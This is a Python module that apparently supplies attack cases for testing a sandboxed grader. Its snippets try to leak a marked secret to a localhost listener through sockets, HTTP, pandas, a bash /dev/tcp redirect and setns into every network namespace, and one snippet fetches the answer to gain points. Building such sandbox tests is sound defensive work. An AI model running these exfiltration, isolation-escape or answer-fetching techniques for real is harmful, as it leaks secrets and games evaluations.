"""Talking to somebody outside: with the secret, or for the answer."""

from __future__ import annotations

from .attack import Attack, Kind, in_cells
from .course import Course
from .seen import Aim, Seen

__all__ = ["ATTACKS"]


def _sends(name: str, source: str) -> Attack:
    answers = {"count": f"{SECRET}\n{source}"}
    return in_cells(name, Kind.NETWORK, Aim.READS_SECRET, answers, proof=_arrived)


def _arrived(course: Course, name: str, seen: Seen) -> bool:
    """Arriving at all is the proof: whoever can send a word can send a secret."""
    return any(f"{course.mark}:{name}." in message for message in seen.heard)


SECRET = 'import socket\n\nsecret = b"@MARK@:@STUDENT@."'

TCP = """\
with socket.create_connection(("127.0.0.1", @TCP@), timeout=2) as line:
    line.sendall(secret)"""

UDP = """\
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.sendto(secret, ("127.0.0.1", @UDP@))"""

ABSTRACT = """\
line = socket.socket(socket.AF_UNIX)
line.connect("\\0@MARK@")
line.sendall(secret)"""

FILE_SOCKET = """\
line = socket.socket(socket.AF_UNIX)
line.connect("@HOME@/teacher.sock")
line.sendall(secret)"""

HTTP = """\
import urllib.request

urllib.request.urlopen(f"http://127.0.0.1:@TCP@/{secret.decode()}", timeout=2).read()"""

TABLE = """\
import pandas as pd

pd.read_csv(f"http://127.0.0.1:@TCP@/{secret.decode()}")"""

SHELL = """\
import subprocess

subprocess.run(["bash", "-c", f"echo {secret.decode()} > /dev/tcp/127.0.0.1/@TCP@"], check=False)"""

IPV6 = """\
line = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
line.sendto(secret, ("::ffff:127.0.0.1", @UDP@))"""

BY_ALL_NAMESPACES = """\
import ctypes
import glob
import os

for space in glob.glob("/proc/[0-9]*/ns/net"):
    try:
        handle = os.open(space, os.O_RDONLY)
    except OSError:
        continue
    ctypes.CDLL(None).setns(handle, 0)
    try:
        with socket.create_connection(("127.0.0.1", @TCP@), timeout=1) as line:
            line.sendall(secret)
    except OSError:
        continue"""

IN_CALL = """\
def dilution(stock, final):
    with socket.create_connection(("127.0.0.1", @TCP@), timeout=2) as line:
        line.sendall(secret)
    return 0.0"""

HELP = """\
import socket

with socket.create_connection(("127.0.0.1", @TCP@), timeout=2) as line:
    line.sendall(b"please")
    count = int(line.makefile().read().split()[-1])"""

ATTACKS = (
    _sends("tcp", TCP),
    _sends("udp", UDP),
    _sends("abstract-socket", ABSTRACT),
    _sends("socket-file", FILE_SOCKET),
    _sends("http", HTTP),
    _sends("table-from-an-address", TABLE),
    _sends("shell-connects", SHELL),
    _sends("mapped-address", IPV6),
    _sends("other-network-spaces", BY_ALL_NAMESPACES),
    in_cells(
        "connects-in-call",
        Kind.NETWORK,
        Aim.READS_SECRET,
        {"dilution": f"{SECRET}\n\n\n{IN_CALL}"},
        proof=_arrived,
    ),
    in_cells("asks-for-the-answer", Kind.NETWORK, Aim.GAINS_POINTS, {"count": HELP}),
)
